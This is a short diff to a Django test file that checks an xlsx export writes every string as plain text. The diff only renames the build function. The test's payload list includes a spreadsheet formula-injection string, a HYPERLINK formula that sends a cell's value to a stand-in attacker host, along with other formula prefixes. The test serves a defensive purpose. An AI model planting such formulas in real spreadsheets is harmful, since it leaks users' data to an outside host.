@@ -9,7 +9,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from grids import services as grid_services
-from yaohai.core.xlsx import build_ledger
+from yaohai.core.xlsx import build_sheet
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1", "-1+1", "@SUM(A1)", "#N/A", "=1+1"]
 
@@ -30,7 +30,7 @@ def _assert_text(content: bytes, payloads=PAYLOADS):
 
 def test_the_ledger_writes_every_string_as_text():
     rows = [[p, 1] for p in PAYLOADS] + [["铃\x07声\x0b", 2]]
-    content = build_ledger(PAYLOADS[0], ["标题", PAYLOADS[1]], rows, groups=[(PAYLOADS[2], 2)])
+    content = build_sheet(PAYLOADS[0], ["标题", PAYLOADS[1]], rows, groups=[(PAYLOADS[2], 2)])
     _assert_text(content)
     assert "铃声" in [c.value for c in _cells(content)]  # characters a sheet cannot hold are dropped, not a 500
     assert [c.value for c in _cells(content) if c.value == 1] and all(
